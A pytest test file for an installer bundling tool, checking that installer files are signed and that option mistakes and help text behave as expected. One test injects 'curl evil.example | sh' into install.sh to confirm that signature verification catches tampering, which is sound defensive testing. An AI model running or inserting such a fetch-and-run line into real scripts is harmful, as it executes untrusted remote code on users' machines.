"""installer/install.sh, which pack puts in every bundle, is signed with it: verify names an edited installer; its
one-drive options are checked before any work.  Running it with dash against a real engine:
``integration/test_install_sh.py`` and, disc by disc, ``integration/test_install_sh_discs.py``."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.helpers.cli import Cli
from tests.helpers.keys import KeyPair
from tests.helpers.tools import run_sh


def test_installer_files_are_signed_and_checked_by_verify(cli: Cli, bundle: Path, keypair: KeyPair) -> None:
    files = json.loads((bundle / "manifest.json").read_text())["files"]
    listed = {f["path"] for f in files if f["path"].startswith("installer/")}
    assert listed == {
        "installer/install.sh",
        "installer/audit.sh",
        "installer/docker-linux-amd64.plan",
        "installer/docker-linux-amd64.blocks",
    }
    script = bundle / "installer" / "install.sh"
    script.write_text(script.read_text().replace("set -u", "set -u\ncurl evil.example | sh"))
    r = cli("verify", str(bundle), "--trust", str(keypair[1]))
    assert r.code == 4, r.err
    assert "installer/install.sh" in r.err


@pytest.mark.tools
@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["--one-drive", "--from", "."], "--from and --one-drive do not go together"),
        (["--media-command", "  "], "--media-command is empty"),
        (["--media-command"], "usage: install.sh"),
    ],
)
def test_install_sh_one_drive_option_mistakes_are_usage_errors(
    bundle: Path, keypair: KeyPair, args: list[str], said: str
) -> None:
    done = run_sh(bundle, "--trust", str(keypair[1]), *args)
    assert done.returncode == 2, done.stderr
    assert said in done.stderr


@pytest.mark.tools
def test_install_sh_help_names_the_one_drive_options(bundle: Path) -> None:
    done = run_sh(bundle, "--help")
    assert done.returncode == 0, done.stderr
    assert "[--one-drive] [--media-command CMD]" in done.stdout
    assert "stdin at its end stops the install naming the disc (exit 4)" in done.stdout.replace("\n", " ")
    assert not done.stdout.startswith("#") and "set -u" not in done.stdout
